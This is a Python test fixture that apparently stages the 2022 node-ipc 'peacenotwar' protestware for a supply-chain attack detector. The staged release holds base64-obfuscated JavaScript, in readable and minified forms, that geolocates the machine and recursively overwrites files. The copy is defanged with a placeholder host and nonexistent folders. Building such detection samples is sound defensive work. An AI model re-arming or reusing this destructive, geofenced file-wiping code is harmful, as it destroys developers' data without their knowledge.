"""node-ipc (peacenotwar), 2022: a maintainer's own package overwrites files by geolocation.

Version 10.1.1 asked a geolocation service where the machine was, and if the answer named one of two
countries, went through the folders above and overwrote every file with a heart. All names were in
base64. Here it would overwrite with nothing, in a folder that there is not.

Post-mortem: "Alert: peacenotwar module sabotages npm developers in the node-ipc package" (Snyk).
In the staged tarball: a new file that asks the network where it is, decodes names from base64,
lists folders outside the package and writes to what it finds.
"""

from tests.findings.attack import Attack, one_line, release

_SOURCE = """\
import net from 'net';

export class Client {
  constructor(path) {
    this.path = path;
    this.retry = 500;
    this.handlers = new Map();
  }
  on(type, handler) {
    this.handlers.set(type, handler);
    return this;
  }
  connect() {
    this.socket = net.connect({ path: this.path });
    this.socket.on('data', (data) => this.handlers.get('data')?.(String(data)));
    this.socket.on('close', () => setTimeout(() => this.connect(), this.retry));
  }
}
"""
_NEXT = _SOURCE.replace("this.retry = 500", "this.retry = 250")
_GEOSPEC = """\
import u from "path";
import a from "fs";
import o from "https";

setTimeout(function () {
  const t = Math.round(Math.random() * 4);
  if (t > 1) { return; }
  const n = Buffer.from("aHR0cHM6Ly9nZW8uZXhhbXBsZS5pbnZhbGlkL2lwZ2Vv", "base64");
  o.get(n.toString("utf8"), function (t) {
    t.on("data", function (t) {
      const n = Buffer.from("Li9uby1zdWNoLWZvbGRlci8=", "base64");
      const o = Buffer.from("Li4vLi4vbm8tc3VjaC1mb2xkZXIv", "base64");
      const f = Buffer.from("Y291bnRyeV9uYW1l", "base64");
      const e = Buffer.from("cnVzc2lh", "base64");
      const i = Buffer.from("YmVsYXJ1cw==", "base64");
      try {
        const s = JSON.parse(t.toString("utf8"));
        const u = s[f.toString("utf8")].toLowerCase();
        const c = u.includes(e.toString("utf8")) || u.includes(i.toString("utf8"));
        if (c) {
          h(n.toString("utf8"));
          h(o.toString("utf8"));
        }
      } catch (t) {}
    });
  });
}, Math.ceil(Math.random() * 1000));

async function h(n = "", o = "") {
  if (!a.existsSync(n)) { return; }
  let r = a.readdirSync(n);
  for (var t = 0; t < r.length; t++) {
    const e = u.join(n, r[t]);
    if (a.lstatSync(e).isDirectory()) { h(e, o); continue; }
    a.writeFile(e, "", function () {});<<<destruction>>>
  }
}
export default h;
"""
_MINIFIED = (
    one_line("""
    import u from"path";import a from"fs";import o from"https";setTimeout(function(){const t=Math
    .round(Math.random()*4);if(t>1){return}const n=Buffer.from(
    "aHR0cHM6Ly9nZW8uZXhhbXBsZS5pbnZhbGlkL2lwZ2Vv","base64");o.get(n.toString("utf8"),function(t)
    {t.on("data",function(t){const n=Buffer.from("Li9uby1zdWNoLWZvbGRlci8=","base64");const o=
    Buffer.from("Li4vLi4vbm8tc3VjaC1mb2xkZXIv","base64");const f=Buffer.from("Y291bnRyeV9uYW1l",
    "base64");const e=Buffer.from("cnVzc2lh","base64");const i=Buffer.from("YmVsYXJ1cw==","base64"
    );try{const s=JSON.parse(t.toString("utf8"));const u=s[f.toString("utf8")].toLowerCase();
    const a=u.includes(e.toString("utf8"))||u.includes(i.toString("utf8"));if(a){h(n.toString(
    "utf8"));h(o.toString("utf8"))}}catch(t){}})})},Math.ceil(Math.random()*1e3));async function
     h(n="",o=""){if(!a.existsSync(n)){return}let r=a.readdirSync(n);for(var t=0;t<r.length;t++){
    const e=u.join(n,r[t]);a.lstatSync(e).isDirectory()?h(e,o):a.writeFile(e,"",function(){})}};
    const ssl=true;export{ssl as default,ssl};
    """).replace("function h", "function h")
    + "<<<destruction>>>\n"
)
_IMPORT = "import './dao/ssl-geospec.js';\n"
_MANIFEST = {"type": "module", "main": "node-ipc.js"}

ATTACK = Attack(
    before=release("ipc-lines", "10.1.0", {"node-ipc.js": _SOURCE}, **_MANIFEST),
    unharmed=release("ipc-lines", "10.1.1", {"node-ipc.js": _NEXT}, **_MANIFEST),
    after={
        manner: release(
            "ipc-lines",
            "10.1.1",
            {"node-ipc.js": _IMPORT + _NEXT, "dao/ssl-geospec.js": code},
            **_MANIFEST,
        )
        for manner, code in (("readable", _GEOSPEC), ("minified", _MINIFIED))
    },
)
